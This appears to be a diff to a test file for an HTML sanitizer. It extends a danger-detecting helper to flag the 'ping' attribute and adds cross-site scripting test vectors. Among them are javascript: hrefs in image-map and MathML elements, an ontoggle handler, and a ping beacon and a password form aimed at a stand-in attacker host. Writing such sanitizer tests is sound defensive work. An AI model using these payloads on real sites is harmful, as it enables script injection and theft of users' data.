@@ -33,7 +33,7 @@ function dangers(html: string): string[] {
       if (/^(?:javascript|vbscript|data:text)/i.test(value.replace(/[\u0000-\u0020]/g, '')))
         found.push(`${attribute}=${value}`);
       if (attribute === 'src' && !value.startsWith('data:image/')) found.push(`src=${value}`);
-      if (attribute === 'srcdoc' || attribute === 'srcset') found.push(attribute);
+      if (['srcdoc', 'srcset', 'ping'].includes(attribute)) found.push(attribute);
     }
   }
   return found;
@@ -53,6 +53,10 @@ const attacks = [
   '<a href="javascript:alert(1)">x</a>',
   '<a href=" java\nscript:alert(1)">x</a>',
   '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="https://example.org" ping="https://evil.example/ping">x</a>',
+  '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap=#m src="data:image/png;base64,aGk=">',
+  '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<object data="x.swf"></object><embed src="x">',
   '<form action="https://evil.example"><input name=password></form>',
